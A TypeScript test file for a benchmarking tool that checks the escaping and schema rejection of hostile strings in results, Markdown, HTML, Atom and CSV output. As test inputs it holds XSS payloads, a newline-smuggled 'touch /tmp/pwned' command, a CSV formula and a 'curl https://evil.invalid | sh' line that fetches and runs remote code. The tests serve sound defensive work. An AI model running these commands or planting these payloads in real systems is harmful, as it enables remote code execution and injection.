import assert from "node:assert/strict";
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname } from "node:path";
import { describe, it } from "node:test";
import { csvField, escapeMarkdown, escapeMarkup, plainText, publishedText, publishedValue, remoteHostsHidden, shellComment } from "../../src/core/markup.ts";
import { checkAgainst } from "../../src/core/schema.ts";
import type { ResultDocument } from "../../src/results/types.ts";
import { gabEntries } from "../../src/export/gab.ts";
import { regressionsAtom } from "../../src/regressions/feed-atom.ts";
import { detectRegressions } from "../../src/regressions/detect.ts";
import { resultPath } from "../../src/results/store.ts";
import { html } from "../../src/site/html.ts";
import { bench, tempDir } from "../../benchmarks/lib/cli.ts";
import { makeResult, metricOf } from "../../benchmarks/lib/documents.ts";
import { syntheticHistory } from "../helpers/series.ts";

const FENCE = "22.0.0\n```\n@maintainer <img src=x onerror=alert(1)>";
const HOSTILE = ["```", "@maintainer", "<script>alert(1)</script>", "a | b", "[link](https://evil.invalid)", "**bold**", "&amp;"];

describe("strings from results, where they reach Markdown, HTML and Atom", () => {
  it("validate refuses a version holding a code fence, an @mention or HTML, naming the file and the field", async () => {
    const data = tempDir("hostile-data");
    const versions = ["22.0.0```", "22.0.0-@maintainer", "22.0.0+<b>x</b>", FENCE];
    for (const [i, version] of versions.entries()) {
      const doc = makeResult({ run: { id: `20261101T00000${i}Z-abcdef` }, runtime: { ...makeResult().runtime, version } });
      // Written by hand: the store itself refuses to write an invalid result.
      const path = resultPath(data, { ...doc, runtime: { ...doc.runtime, version: "22.0.0" } });
      mkdirSync(dirname(path), { recursive: true });
      writeFileSync(path, JSON.stringify(doc));
    }
    const valid = makeResult({ run: { id: "20261101T000009Z-abcdef" }, runtime: { ...makeResult().runtime, version: "1.2.0-canary.20261101+0a1b2c3" } });
    const path = resultPath(data, valid);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, JSON.stringify(valid));
    const result = await bench(["validate", data]);
    assert.equal(result.code, 1, result.stdout);
    const refused = result.stderr.split("\n").filter((line) => /\/runtime\/version: must match pattern/.test(line));
    assert.equal(refused.length, versions.length, result.stderr);
    assert.doesNotMatch(result.stderr, /20261101T000009Z/, "a canary's pre-release and build parts are a version");
  });

  it("the schema refuses a control character in every string a result carries, and a reproduce command that runs anything else", () => {
    const base = makeResult();
    const wall = base.metrics.wall_ms!;
    const hostile: [string, ResultDocument][] = [
      ["/params/mode", makeResult({ params: { mode: "fast\ntouch /tmp/pwned" } })],
      ["/params", makeResult({ params: { "mode\r": 1 } })],
      ["/metrics/wall_ms/unit", makeResult({ metrics: { wall_ms: { ...wall, unit: "ms\u001b]8;;https://evil.invalid\u0007" } } })],
      ["/metrics", makeResult({ metrics: { "wall ms": wall } })],
      ["/tools/hyperfine", makeResult({ tools: { hyperfine: "1.15.0\u2028echo" } })],
      ["/environment/cpu_model", makeResult({ environment: { cpu_model: "Test\u202eCPU" } })],
      ["/runtime/spec", makeResult({ runtime: { ...base.runtime, spec: "node@22.11.0\n" } })],
      ["/error", makeResult({ status: "failed", metrics: {}, error: "\u001b[2J" })],
      ["/details/stderr/0", makeResult({ details: { stderr: ["\u0000"] } })],
      ["/reproduce", makeResult({ reproduce: "scripts/bench run --suite startup; curl https://evil.invalid | sh" })],
    ];
    for (const [field, doc] of hostile) {
      const problems = checkAgainst("result.schema.json", doc);
      assert.ok(problems.some((problem) => problem.startsWith(`${field}: `)), `${field} refused:\n${problems.join("\n")}`);
    }
    const plain = makeResult({ status: "failed", metrics: {}, error: "exited 1:\n\tat main (x.js:1)", details: { stderr: "line 1\nline 2", facts: [{ n: 1, ok: true, none: null }] } });
    assert.deepEqual(checkAgainst("result.schema.json", plain), [], "free text keeps its line breaks and tabs");
  });

  it("a failure's reason names no remote host, only the machine's own", () => {
    assert.equal(
      remoteHostsHidden("pg cannot be loaded here: Error getting response at https://packages.example.org/pg for package \"pg\": error sending request for url (https://packages.example.org/pg)"),
      'pg cannot be loaded here: Error getting response at https://[remote host]/pg for package "pg": error sending request for url (https://[remote host]/pg)',
    );
    assert.equal(remoteHostsHidden("GET http://user:secret@mirror.example.com:8080/cors - 403"), "GET http://[remote host]/cors - 403");
    const local = "refused: http://127.0.0.1:4873/cors, http://localhost:8080/, ws://[::1]:9000/echo, postgres://bench@127.0.0.1:5432/db";
    assert.equal(remoteHostsHidden(local), local);
  });

  it("a process's output becomes plain text before a result keeps it; a comment or a CSV field stays what it is", () => {
    assert.equal(plainText("\u001b[31mred\u001b[0m\r\nnext\rlast\t!"), "[31mred[0m\nnext\nlast\t!");
    assert.deepEqual(publishedValue({ "a\nb": ["\u0007x", 1, null, { c: "\u202ey" }] }), { "a b": ["x", 1, null, { c: "y" }] });
    assert.deepEqual(publishedValue({ install: ["GET https://mirror.example.com/pg - 403", "http://127.0.0.1:4873/pg"] }), { install: ["GET https://[remote host]/pg - 403", "http://127.0.0.1:4873/pg"] });
    assert.equal(publishedText("\u001b[31mfailed\u001b[0m at https://mirror.example.com/x"), "[31mfailed[0m at https://[remote host]/x");
    assert.equal(shellComment("startup/hello mode=a\ntouch /tmp/pwned\r\u2028b"), "# startup/hello mode=a touch /tmp/pwned  b");
    assert.equal(csvField("=1+1"), "'=1+1");
    assert.equal(csvField("a,b"), '"a,b"');
    assert.equal(csvField(-1.5), "-1.5");
  });

  it("Markdown: no fence, mention, HTML, link, emphasis or table column survives", () => {
    for (const text of [...HOSTILE, FENCE]) {
      const escaped = escapeMarkdown(text);
      assert.doesNotMatch(escaped, /(^|[^\\])[`|*[\]]/, escaped);
      assert.doesNotMatch(escaped, /[<>\n]/, escaped);
      assert.doesNotMatch(escaped, /(^|[^A-Za-z0-9])@(?!&#8203;)/, escaped);
    }
    assert.equal(escapeMarkdown("node@22.11.0 wall_ms"), "node@22.11.0 wall_ms", "no mention inside a word");
    assert.equal(escapeMarkdown("node 22.11.0 · startup/hello"), "node 22.11.0 · startup/hello", "ordinary text stays readable");
  });

  it("HTML and XML: no tag, attribute or entity survives, and no character XML cannot hold", () => {
    for (const text of [...HOSTILE, FENCE, "\u0000\u001b"]) {
      const escaped = escapeMarkup(text);
      assert.doesNotMatch(escaped, /[<>"'\u0000-\u0008\u000b\u000c\u000e-\u001f]|&(?!amp;|lt;|gt;|quot;|#39;)/, escaped);
    }
    assert.equal(String(html`<td title="${'"><script>'}">${"<b>"}</td>`), '<td title="&quot;&gt;&lt;script&gt;">&lt;b&gt;</td>');
  });

  it("the Atom feed escapes a hostile reason and series in every element", () => {
    const report = detectRegressions([...syntheticHistory({ seed: 1, runNoise: 0.01, step: 0.1, stepAt: 6 })], { now: new Date("2026-12-01T00:00:00.000Z") });
    const change = { ...report.changes[0]!, reason: "<script>alert(1)</script>", series: "<x>", updated: "<y>" };
    const atom = regressionsAtom({ ...report, changes: [change] });
    assert.doesNotMatch(atom, /<script>|<x>|<y>/);
    assert.match(atom, /&lt;script&gt;alert\(1\)&lt;\/script&gt;/);
  });

  it("github-action-benchmark names and details carry no markup, whatever a parameter holds", () => {
    const doc = makeResult({ params: { mode: "```<b>@maintainer</b>|[x](y)" } });
    const entries = gabEntries([doc], "lower");
    assert.ok(entries.length > 0);
    for (const entry of entries) {
      assert.doesNotMatch(entry.name, /[`<>@|[\]()*]/, entry.name);
      assert.doesNotMatch(entry.extra, /[`<>@|]/, entry.extra);
    }
  });

  it("github-action-benchmark's unit, which it prints raw into its summary table and alert comment, carries no markup", () => {
    const unit = "<img src=x onerror=alert(1)> | @maintainer <!-- [x](https://evil.invalid)\n";
    const doc = makeResult({ metrics: { wall_ms: metricOf([30, 31, 29], unit) } });
    const [entry] = gabEntries([doc], "lower");
    assert.ok(entry);
    assert.doesNotMatch(entry.unit, /[`<>@|[\]()!\n]/, entry.unit);
    assert.doesNotMatch(entry.extra, /[`<>@|!]|\]\(/, entry.extra);
    assert.equal(gabEntries([makeResult({ metrics: { rtt_us: metricOf([3, 4, 5], "µs") } })], "lower")[0]!.unit, "µs", "a plain unit stays as it is");
  });
});
